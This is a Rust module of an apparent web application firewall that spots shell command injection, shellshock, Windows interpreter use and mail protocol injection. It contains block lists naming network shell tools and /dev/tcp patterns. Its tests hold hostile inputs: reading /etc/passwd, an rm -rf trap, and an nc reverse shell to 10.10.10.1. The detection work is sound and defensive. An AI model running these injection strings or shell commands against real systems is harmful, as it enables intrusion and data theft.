//! Remote command execution: shell commands after a command separator (with quote,
//! backslash and empty-variable evasions removed), shell expressions, shellshock, Windows
//! command interpreters, and mail/IMAP protocol injection.

use crate::normalize::Views;
use crate::patterns::{any_in, group, is_one_of};
use crate::rules::Rules;
use std::borrow::Cow;
use std::collections::HashMap;
use std::hash::{BuildHasherDefault, Hasher};

/// Unix commands that are not everyday words: after a separator they need nothing else.
pub(crate) static UNIX_COMMANDS: &[&str] = &[
    "7z",
    "aa-disable",
    "aa-exec",
    "adduser",
    "ansible",
    "ansible-config",
    "ansible-console",
    "ansible-doc",
    "ansible-galaxy",
    "ansible-inventory",
    "ansible-playbook",
    "ansible-pull",
    "ansible-vault",
    "apt-get",
    "aptitude",
    "arp",
    "awk",
    "base32",
    "base64",
    "bash",
    "bpftrace",
    "bsdtar",
    "busctl",
    "busybox",
    "bzip2",
    "c89",
    "c99",
    "capsh",
    "chattr",
    "chef-client",
    "chef-run",
    "chef-shell",
    "chef-vault",
    "chgrp",
    "chmod",
    "chown",
    "chroot",
    "cp",
    "cpulimit",
    "crontab",
    "cscli",
    "csh",
    "curl",
    "dash",
    "dmesg",
    "dnf",
    "doas",
    "docker",
    "dpkg",
    "dtrace",
    "egrep",
    "env",
    "fgrep",
    "flock",
    "gawk",
    "gcc",
    "gdb",
    "getent",
    "getfacl",
    "gpg",
    "grep",
    "gunzip",
    "gzip",
    "hexdump",
    "hostname",
    "ifconfig",
    "ifdown",
    "ifup",
    "insmod",
    "ionice",
    "iptables",
    "irb",
    "iwconfig",
    "jjs",
    "journalctl",
    "jrunscript",
    "killall",
    "ksh",
    "kubectl",
    "lastlog",
    "lastlogin",
    "ldd",
    "ln",
    "ls",
    "lsattr",
    "lsb_release",
    "lsmod",
    "lsof",
    "lspci",
    "lsusb",
    "ltrace",
    "lua",
    "lwp-download",
    "lwp-request",
    "mkdir",
    "mkfifo",
    "mknod",
    "modprobe",
    "mv",
    "mysql",
    "nano",
    "nc",
    "ncat",
    "netcat",
    "netstat",
    "nmap",
    "nohup",
    "npm",
    "nsenter",
    "nslookup",
    "objdump",
    "od",
    "openssl",
    "passwd",
    "perl",
    "php",
    "pip",
    "pip3",
    "pipx",
    "pkexec",
    "pkill",
    "printenv",
    "ps",
    "psql",
    "pwd",
    "python",
    "python2",
    "python3",
    "readelf",
    "redis-cli",
    "rlwrap",
    "rm",
    "rmdir",
    "rmmod",
    "rmt",
    "rmt-dump",
    "rmt-tar",
    "route",
    "rpm",
    "rsync",
    "ruby",
    "run-parts",
    "scp",
    "sed",
    "setfacl",
    "setsid",
    "sftp",
    "sh",
    "shred",
    "socat",
    "sqlite3",
    "ssh",
    "ssh-copy-id",
    "stdbuf",
    "strace",
    "sudo",
    "sysctl",
    "systemctl",
    "tac",
    "taskset",
    "tclsh",
    "tcpdump",
    "tcsh",
    "telnet",
    "tftp",
    "tmux",
    "traceroute",
    "uname",
    "uniq",
    "unshare",
    "unxz",
    "unzip",
    "uptime",
    "useradd",
    "usermod",
    "uudecode",
    "vim",
    "visudo",
    "wall",
    "wget",
    "whoami",
    "xargs",
    "xterm",
    "xxd",
    "yum",
    "zcat",
    "zsh",
];

/// Unix commands that are also everyday words: they need command-line arguments.
pub(crate) static WORD_COMMANDS: &[&str] = &[
    "alias", "cat", "cc", "cd", "chef", "comm", "cut", "date", "dd", "df", "diff", "dig", "dir",
    "du", "echo", "ed", "emacs", "eval", "exec", "expect", "export", "fetch", "file", "find",
    "free", "halt", "head", "history", "host", "id", "ip", "java", "kill", "last", "less",
    "locate", "mail", "make", "man", "more", "mount", "mutt", "nice", "nl", "node", "perf", "ping",
    "printf", "reboot", "rev", "screen", "script", "sendmail", "service", "set", "shutdown",
    "sleep", "sort", "source", "stat", "strings", "su", "tail", "tar", "tee", "time", "timeout",
    "top", "touch", "tr", "trap", "type", "umount", "vi", "watch", "wc", "which", "who", "write",
    "xz", "zip",
];

/// Windows commands and interpreters.
pub(crate) static WINDOWS_COMMANDS: &[&str] = &[
    "at.exe",
    "attrib",
    "bcdboot",
    "bcdedit",
    "bitsadmin",
    "certutil",
    "cipher",
    "cmd",
    "cmd.exe",
    "copy",
    "cscript",
    "del",
    "diskpart",
    "dsquery",
    "erase",
    "esentutl",
    "expand",
    "findstr",
    "forfiles",
    "icacls",
    "iex",
    "invoke-expression",
    "invoke-restmethod",
    "invoke-webrequest",
    "ipconfig",
    "iwr",
    "move",
    "mshta",
    "msiexec",
    "net",
    "net1",
    "netsh",
    "new-object",
    "nltest",
    "powershell",
    "powershell.exe",
    "pwsh",
    "reg",
    "regedit",
    "regsvr32",
    "ren",
    "robocopy",
    "rundll32",
    "sc",
    "schtasks",
    "start-process",
    "systeminfo",
    "takeown",
    "taskkill",
    "tasklist",
    "type",
    "ver",
    "vol",
    "vssadmin",
    "whoami.exe",
    "wmic",
    "wscript",
    "xcopy",
];

/// Fragments that are shell syntax on their own (932130).
pub(crate) static SHELL_EXPRESSIONS: &[&str] = &[
    "$(",
    "${",
    "<(",
    ">(",
    "/dev/tcp/",
    "/dev/udp/",
    "2>&1",
    ">&/",
    "0>&1",
    "<<<",
    "|sh",
    "|bash",
    "| sh",
    "| bash",
    ";sh ",
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "$[",
    "$shell",
    "/[",
];

/// Shell and binary directories (932160).
pub(crate) static SHELL_PATHS: &[&str] = &[
    "/bin/busybox",
    "/usr/bin/",
    "/bin/",
    "/usr/local/bin/",
    "/usr/sbin/",
    "/sbin/",
];

/// Removes shell quoting and empty-expansion evasions: `c''at`, `c\at`, `c$@at`, `c${x}at`
/// (an unset variable expands to nothing), `^` (cmd.exe escape).
fn unevade(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\\' | b'^' => i += 1,
            b'`' if b.get(i + 1) == Some(&b'`') => i += 2,
            b'[' if b.get(i + 2) == Some(&b']')
                && b.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric()) =>
            {
                out.push(b[i + 1] as char);
                i += 3;
            }
            b'\'' | b'"' => i += 1,
            b'$' if matches!(
                b.get(i + 1),
                Some(b'?' | b'@' | b'*' | b'!' | b'#' | b'-' | b'_' | b'$' | b'0'..=b'9')
            ) =>
            {
                i += 2
            }
            b'$' if b.get(i + 1) == Some(&b'{') && !s[i..].starts_with("${ifs}") => {
                match s[i..].find('}') {
                    Some(end) if end < 24 => i += end + 1,
                    _ => i += 1,
                }
            }
            b'$' if b.get(i + 1).is_some_and(|c| c.is_ascii_lowercase())
                && !s[i..].starts_with("$ifs") =>
            {
                // `cat$u` — a short unset variable glued to a word.
                let mut j = i + 1;
                while j < b.len() && b[j].is_ascii_alphanumeric() {
                    j += 1;
                }
                if j - i <= 3 {
                    i = j;
                } else {
                    out.push('$');
                    i += 1;
                }
            }
            _ => {
                let len = match b[i] {
                    0xf0..=0xff => 4,
                    0xe0..=0xef => 3,
                    0xc0..=0xdf => 2,
                    _ => 1,
                };
                let end = (i + len).min(b.len());
                out.push_str(s.get(i..end).unwrap_or(""));
                i = end;
            }
        }
    }
    if !out.contains('$') {
        return out;
    }
    out.replace("${ifs}", " ").replace("$ifs", " ")
}

// Asked of every byte of every value: inlined (the size-optimised Wasm build calls it).
#[inline(always)]
fn is_cmd_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'?' | b'*' | b'[' | b']')
}

const STRONG: u8 = 1;
const WEAK: u8 = 2;
const WINDOWS: u8 = 4;
const PREFIX: u8 = 8;

/// FNV-1a: command names are a few bytes, and the table is built from static lists, so a
/// cheap hash does (SipHash's setup dominated each lookup, in Wasm most of all).
#[derive(Default)]
struct Fnv(u64);

impl Hasher for Fnv {
    fn write(&mut self, bytes: &[u8]) {
        let mut h = if self.0 == 0 {
            0xcbf2_9ce4_8422_2325
        } else {
            self.0
        };
        for b in bytes {
            h = (h ^ u64::from(*b)).wrapping_mul(0x0000_0100_0000_01b3);
        }
        self.0 = h;
    }

    fn finish(&self) -> u64 {
        self.0
    }
}

type CommandTable = HashMap<&'static str, u8, BuildHasherDefault<Fnv>>;

/// Every command name with the lists it is in (`STRONG`, `WEAK`, `WINDOWS`, `PREFIX`): one
/// hash lookup per word instead of a binary search in each list.
fn command_table() -> CommandTable {
    let mut t = HashMap::default();
    for (list, flag) in [
        (UNIX_COMMANDS, STRONG),
        (WORD_COMMANDS, WEAK),
        (WINDOWS_COMMANDS, WINDOWS),
        (PREFIXES, PREFIX),
    ] {
        for c in list {
            *t.entry(*c).or_insert(0) |= flag;
        }
    }
    t
}

thread_local! {
    static COMMANDS: CommandTable = command_table();
}

/// The lists (`STRONG | WEAK | WINDOWS`) naming `word`, which may be a path or hold globs;
/// `PREFIX` when the word itself is a command prefix.
fn command_kind(word: &str) -> u8 {
    // The last path segment (byte scans: this runs on every word after a separator).
    let name = match word.bytes().rposition(|b| b == b'/') {
        Some(slash) => &word[slash + 1..],
        None => word,
    };
    if name.is_empty() || name.len() > 24 {
        return 0;
    }
    if !name.bytes().any(|b| matches!(b, b'?' | b'*' | b'[')) {
        if name.len() > 20 {
            return 0;
        }
        let kind = COMMANDS.with(|t| t.get(name).copied().unwrap_or(0));
        // Prefixes have no `/`: a path is never one.
        return if name.len() == word.len() {
            kind
        } else {
            kind & !PREFIX
        };
    }
    [
        (UNIX_COMMANDS, STRONG),
        (WORD_COMMANDS, WEAK),
        (WINDOWS_COMMANDS, WINDOWS),
    ]
    .iter()
    .filter(|(list, _)| names_command(name, list))
    .fold(0, |kind, (_, flag)| kind | flag)
}

/// Whether `word` (which may hold `?`/`*` globs) names a command in `list`.
fn names_command(word: &str, list: &'static [&'static str]) -> bool {
    let word = word.rsplit('/').next().unwrap_or(word);
    // No command name is longer; this also bounds the glob matcher's work.
    if word.is_empty() || word.len() > 24 {
        return false;
    }
    if !word.contains(['?', '*', '[']) {
        // Command names are at most 20 bytes; longer words are not commands.
        return word.len() <= 20 && is_one_of(list, word);
    }
    if word
        .chars()
        .filter(|c| !matches!(c, '?' | '*' | '[' | ']'))
        .count()
        < 2
    {
        return false;
    }
    list.iter()
        .any(|c| glob_match(word.as_bytes(), c.as_bytes()))
}

fn glob_match(p: &[u8], s: &[u8]) -> bool {
    match (p.first(), s.first()) {
        (None, None) => true,
        (Some(b'*'), _) => glob_match(&p[1..], s) || (!s.is_empty() && glob_match(p, &s[1..])),
        (Some(b'?'), Some(_)) => glob_match(&p[1..], &s[1..]),
        (Some(a), Some(b)) if a == b => glob_match(&p[1..], &s[1..]),
        _ => false,
    }
}

/// `bin/ansible`, `sbin/visudo`: a command by its install path.
fn bin_path(u: &str) -> bool {
    u.match_indices("bin/").any(|(at, _)| {
        let name: String = u[at + 4..]
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
            .collect();
        names_command(&name, UNIX_COMMANDS) || names_command(&name, WORD_COMMANDS)
    })
}

/// A path spelled with shell wildcards: `/???/??t`, `/bin/ca?`, `/e*/passwd`.
fn wildcard_path(u: &str) -> bool {
    u.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '=' | '`' | '(' | ')'))
        .any(|tok| {
            tok.starts_with('/')
                && tok.matches(['?', '*']).count() >= 2
                && tok.matches(['?', '*']).count() * 2
                    >= tok.matches(|c: char| c.is_ascii_alphanumeric()).count()
        })
}

/// `alias a=curl`: defining a shell alias.
fn alias(u: &str) -> bool {
    u.match_indices("alias ").any(|(at, _)| {
        (at == 0 || !u.as_bytes()[at - 1].is_ascii_alphanumeric())
            && u[at + 6..]
                .split_whitespace()
                .find(|w| !w.starts_with('-') && !w.starts_with('+'))
                .is_some_and(|w| w.contains('=') && !w.starts_with('='))
    })
}

/// SQLite shell dot-commands after a separator: `;\n.shell id`, `1;.sh whoami`.
fn sqlite_dot_command(u: &str) -> bool {
    let b = u.as_bytes();
    let separators = b
        .iter()
        .enumerate()
        .filter(|(_, c)| matches!(c, b';' | b'\n'));
    separators.map(|(at, _)| at).any(|at| {
        // Whitespace and written-out line breaks (`;\\n.shell`) may sit before the dot; a
        // few at most, which bounds the work on values full of line breaks.
        let mut i = at + 1;
        while i < at + 16 {
            match b.get(i) {
                Some(b' ' | b'\t' | b'\r' | b'\n') => i += 1,
                Some(b'\\') if matches!(b.get(i + 1), Some(b'n' | b'r')) => i += 2,
                _ => break,
            }
        }
        b.get(i) == Some(&b'.')
            && [
                "shell",
                "system",
                "sh ",
                "databases",
                "tables",
                "dump",
                "import",
                "output",
                "once",
                "read ",
                "load",
            ]
            .iter()
            .any(|c| u[i + 1..].starts_with(c))
    })
}

/// Strong commands that are also common search terms; at the start of a value they need
/// real command-line arguments.
pub(crate) static LANGUAGES: &[&str] = &[
    "curl", "docker", "gcc", "lua", "mysql", "nano", "npm", "perl", "php", "psql", "python",
    "python2", "python3", "ruby", "ssh", "vim", "wget",
];

/// Commands that run the command after them.
pub(crate) static PREFIXES: &[&str] = &[
    "builtin", "busybox", "chroot", "command", "doas", "env", "eval", "exec", "ltrace", "nice",
    "nohup", "setsid", "stdbuf", "strace", "sudo", "time", "timeout", "trap", "unbuffer", "watch",
    "xargs",
];

/// Text after a command word that reads as command-line arguments: an option, a path, a
/// redirect, a pipe or a line end.
fn arguments_follow(rest: &str) -> bool {
    let r = rest.trim_start_matches([' ', '\t', '+', ',']);
    if rest.starts_with(['\n', '\r']) {
        return true;
    }
    if r.len() == rest.len()
        && !rest.is_empty()
        && !rest.starts_with(['<', '>', '|', ';', '&', '`'])
    {
        return false;
    }
    match r.as_bytes().first() {
        None => false,
        Some(b) => {
            matches!(
                b,
                b'-' | b'/'
                    | b'<'
                    | b'>'
                    | b'|'
                    | b';'
                    | b'&'
                    | b'`'
                    | b'$'
                    | b'~'
                    | b'*'
                    | b'{'
                    | b'\\'
                    | b'%'
                    | b'"'
                    | b'\''
            ) || r.starts_with("http")
                || r.starts_with("./")
        }
    }
}

/// Unix or Windows commands in a value: after a strong separator (`|`, `` ` ``, `$(`, `&&`,
/// `{`) any command; after `;`, `&` or a line break an unambiguous command, or a word-like one
/// with arguments; at the start of the value, any command with arguments.
fn command_in(s: &str) -> Option<u32> {
    let b = s.as_bytes();
    let mut i = 0;
    // 0: inside text; b'^': start of value; other: the separator seen.
    let mut sep = b'^';
    // Whether the byte before the current word was a separator, not a space.
    let mut glued = false;
    while i < b.len() {
        let c = b[i];
        if is_cmd_byte(c) || c == b'/' {
            let start = i;
            while i < b.len() && (is_cmd_byte(b[i]) || b[i] == b'/') {
                i += 1;
            }
            if sep != 0 {
                let word = &s[start..i];
                let rest = &s[i..];
                let kind = command_kind(word);
                let is_strong = kind & STRONG != 0;
                let is_windows = !is_strong && kind & WINDOWS != 0;
                let is_weak = is_windows || (!is_strong && kind & WEAK != 0);
                let is_prefix = kind & PREFIX != 0;
                if !(is_strong || is_weak || is_prefix) {
                    sep = 0;
                    continue;
                }
                let args = arguments_follow(rest);
                let ends = rest.trim_start().is_empty()
                    || rest.starts_with(['\n', '\r', ';', '|', '&', '`', ')', '}', ',', ' ']);
                let word_follows = rest.starts_with([' ', '\t', '+'])
                    && rest
                        .trim_start_matches([' ', '\t', '+'])
                        .starts_with(|c: char| c.is_ascii_alphanumeric());
                let hit = match sep {
                    b'^' => {
                        (is_strong || is_weak) && args
                            || is_strong && word_follows && !is_one_of(LANGUAGES, word)
                    }
                    b';' | b'&' | b'\n' | b'\r' => {
                        (is_strong && (ends && !rest.starts_with(',') || args))
                            || (is_weak && args)
                            // `;top x`: a `;` glued to a command word, as no prose writes it.
                            || (is_weak && sep == b';' && glued && word_follows)
                    }
                    _ => (is_strong || is_weak) && (ends || args),
                };
                if hit {
                    return Some(if is_windows { 932110 } else { 932100 });
                }
                // `time sh -c …`, `sudo -u x id`: a command prefix starts a new command line.
                if is_prefix && rest.starts_with([' ', '\t', '+']) {
                    sep = b'|';
                    continue;
                }
            }
            sep = 0;
            continue;
        }
        match c {
            b';' | b'\n' | b'\r' => sep = c,
            b'&' if b.get(i + 1) == Some(&b'&') => {
                sep = b'|';
                i += 1;
            }
            b'&' => sep = b'&',
            b'|' | b'`' | b'{' | b'(' => sep = b'|',
            b'=' => sep = b'^',
            b'$' if b.get(i + 1) == Some(&b'(') => {
                sep = b'|';
                i += 1;
            }
            b' ' | b'\t' => {}
            b',' if sep == b'|' => {}
            _ => sep = 0,
        }
        glued = !matches!(c, b' ' | b'\t');
        i += 1;
    }
    None
}

/// SMTP / IMAP / POP3 commands after a line break (932300-932320).
fn mail_injection(s: &str) -> bool {
    s.split(['\n', '\r']).skip(1).any(|line| {
        let l = line.trim_start();
        [
            "mail from:",
            "rcpt to:",
            "helo ",
            "ehlo ",
            "retr ",
            "auth ",
            "dele ",
            "uidl ",
            "apop ",
        ]
        .iter()
        .any(|c| l.starts_with(c))
            || (l.starts_with(|c: char| c.is_ascii_alphabetic())
                && l.split_whitespace().nth(1).is_some_and(|w| {
                    [
                        "append",
                        "status",
                        "select",
                        "login",
                        "fetch",
                        "examine",
                        "create",
                        "delete",
                        "rename",
                        "list",
                        "lsub",
                        "search",
                        "store",
                        "copy",
                        "uid",
                        "capability",
                        "logout",
                        "authenticate",
                    ]
                    .contains(&w)
                })
                && l.split_whitespace()
                    .next()
                    .is_some_and(|t| t.bytes().any(|b| b.is_ascii_digit())))
    })
}

/// A word with shell-evasion characters inside it that spells a command once they are
/// removed: `cu$@rl`, `pi``ng`, `c'a't`, `w\\ho\\ami` (a single apostrophe is English:
/// `I'd`, `don't`).
fn evaded_command_word(l: &str) -> bool {
    l.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '<' | '>'))
        .any(|raw| {
            // Quotes around a word are prose; backticks glued to it are an empty substitution.
            let word = raw.trim_matches(|c| matches!(c, '\'' | '"'));
            let inner = word.len() > 2
                && word.as_bytes()[1..word.len() - 1]
                    .iter()
                    .any(|b| matches!(b, b'\\' | b'^' | b'\'' | b'"' | b'$' | b'`'));
            let quotes = word.matches(['\'', '"']).count();
            let other = word.contains(['\\', '^', '$', '`']);
            if !inner || (quotes < 2 && !other) || word.len() > 40 {
                return false;
            }
            let plain = unevade(word);
            plain.len() >= 2
                && plain.bytes().all(|b| is_cmd_byte(b) || b == b'/')
                && command_kind(&plain) & (STRONG | WEAK | WINDOWS) != 0
        })
}

/// Brace expansion that spells a command: `{l,-lh}s` expands to `ls -lhs`.
fn brace_command(u: &str) -> bool {
    let b = u.as_bytes();
    u.match_indices('{').any(|(open, _)| {
        // Only the next 40 bytes: bounds the work on values full of `{`.
        let Some(len) = b[open..b.len().min(open + 41)]
            .iter()
            .position(|c| *c == b'}')
        else {
            return false;
        };
        let inner = &u[open + 1..open + len];
        if !inner.contains(',') || !inner.bytes().all(|c| is_cmd_byte(c) || c == b',') {
            return false;
        }
        let before = b[..open]
            .iter()
            .rev()
            .take_while(|c| c.is_ascii_alphanumeric())
            .count();
        let prefix = &u[open - before..open];
        let after = &u[open + len + 1..];
        let suffix = &after[..after
            .bytes()
            .take_while(|c| c.is_ascii_alphanumeric())
            .count()];
        inner.split(',').any(|part| {
            let word = format!("{prefix}{part}{suffix}");
            word.len() >= 2 && command_kind(&word) & (STRONG | WEAK | WINDOWS) != 0
        })
    })
}

/// Checks one value; returns the id of the first rule that fires. Each rule is skipped when
/// a byte that all its patterns need is absent (`v.bytes` covers every derived form: the
/// unevaded text only removes characters or turns `$IFS` into a space).
pub fn detect(v: &Views, rules: &Rules) -> Option<u32> {
    let l = v.lower();
    let has = |b: u8| v.bytes.has(b);
    if l.len() < 2 {
        return None;
    }
    if rules.on(932170)
        && has(b'(')
        && has(b'{')
        && (l.contains("() {") || l.contains("(){") || l.contains(":(){"))
    {
        return Some(932170);
    }
    let evasive = v.bytes.any(b"\\^'\"$`[");
    let u: Cow<str> = if evasive {
        Cow::Owned(unevade(l))
    } else {
        Cow::Borrowed(l)
    };
    let u = u.as_ref();
    // `${}` alone is an empty expansion, not an expression.
    let raw: Cow<str> = if has(b'$') && l.contains("${}") {
        Cow::Owned(l.replace("${}", ""))
    } else {
        Cow::Borrowed(l)
    };
    // Every shell expression holds one of `$ < > / | ;`; every shell path a `/`. Without
    // evasions `u` and `raw` are `lower`, where the joined pass already looked.
    let plain = !evasive && matches!(raw, Cow::Borrowed(_));
    if rules.on(932130)
        && v.bytes.any(b"$<>/|;")
        && (!plain || v.maybe(group::SHELL_EXPRESSIONS))
        && (any_in(SHELL_EXPRESSIONS, u) || !plain && any_in(SHELL_EXPRESSIONS, &raw))
    {
        return Some(932130);
    }
    let slash = has(b'/');
    if rules.on(932130) && slash && v.bytes.any(b"?*") && wildcard_path(u) {
        return Some(932130);
    }
    if rules.on(932160)
        && slash
        && ((!plain || v.maybe(group::SHELL_PATHS)) && any_in(SHELL_PATHS, u) || bin_path(u))
    {
        return Some(932160);
    }
    if rules.on(932100)
        && (has(b'=') && v.bytes.all(b"alias") && alias(u)
            // Without evasions `u` is `l`.
            || v.bytes.any(b";\n")
                && v.bytes.has(b'.')
                && (sqlite_dot_command(u) || evasive && sqlite_dot_command(l))
            || (u != l && names_command(u.trim(), UNIX_COMMANDS)))
    {
        return Some(932100);
    }
    if let Some(id) = command_in(u) {
        if rules.on(id) {
            return Some(id);
        }
    }
    if rules.on(932110)
        && (has(b'%') && (u.contains("%systemroot%") || u.contains("%comspec%"))
            || v.bytes.all(b"for")
                && v.bytes.any(b"/%")
                && (u.contains("for /") || u.contains("for %"))
                && u.contains(" in ")
            || has(b'%') && u.contains(" do ")
            || (u.starts_with("if ") || u.starts_with("if/"))
                && [
                    " gtr ",
                    " lss ",
                    " geq ",
                    " leq ",
                    " equ ",
                    " neq ",
                    "defined",
                    " exist",
                    "errorlevel",
                    "==",
                ]
                .iter()
                .any(|k| u.contains(k)))
    {
        return Some(932110);
    }
    if rules.on(932200)
        && (evasive && evaded_command_word(l) || has(b'{') && has(b',') && brace_command(u))
    {
        return Some(932200);
    }
    if rules.on(932200) {
        // Brace expansion `{ls,-la}`, tilde expansion `~+`, history `!-1`.
        if has(b'{') && (u.contains("{,") || u.contains(",}"))
            || u.starts_with("~+")
            || u.starts_with("~-")
            || u.starts_with("~0")
            || has(b'!') && u.contains("!-1")
            || has(b'$') && u.contains("=$") && u.contains(';')
        {
            return Some(932200);
        }
    }
    if rules.on(932100) && v.bytes.any(b"\n\r") && mail_injection(l) {
        return Some(932100);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        detect(&Views::of_decoded(s.into()), &Rules::new(2, &[])).is_some()
    }

    #[test]
    fn commands() {
        for s in [
            ";cat /etc/passwd",
            "| id",
            "c'a't /etc/passwd",
            "x;c$@at /et?/passwd",
            "$(whoami)",
            "cmd /c dir",
            "time sh -c whoami",
            // Evasions inside a word, brace expansion, commands run by trap/eval, a `;`
            // glued to a command, SQLite dot commands after written-out line breaks.
            "cu$@rl google.com",
            "ping`` 127.0.0.1",
            "pi``ng 127.0.0.1",
            "{l,-lh}s",
            ";trap 'rm -rf file.txt' SIGEXIT",
            "After ;top something",
            ";\\n.shell nc 10.10.10.1 6666 -e sh",
            ";\n.databases",
        ] {
            assert!(hit(s), "{s}");
        }
    }

    #[test]
    fn prose() {
        for s in [
            "find x for y",
            "hello; time he came",
            "We need that data now",
            "cats and dogs",
            "I use less sugar",
            "I'd say it's fine",
            "''that's the joke''.jpeg",
            "O'keefe's",
            "{a,b} and {x,y}",
            "use `code` here",
            "we top; something",
            "trap door",
        ] {
            assert!(!hit(s), "{s}");
        }
    }
}

#[cfg(test)]
mod bounds_tests {
    use super::*;

    #[test]
    fn long_glob_words_are_cheap() {
        let v = Views::of_decoded(format!(";{}b", "a*".repeat(5000)));
        let _ = detect(&v, &Rules::new(2, &[]));
    }
}
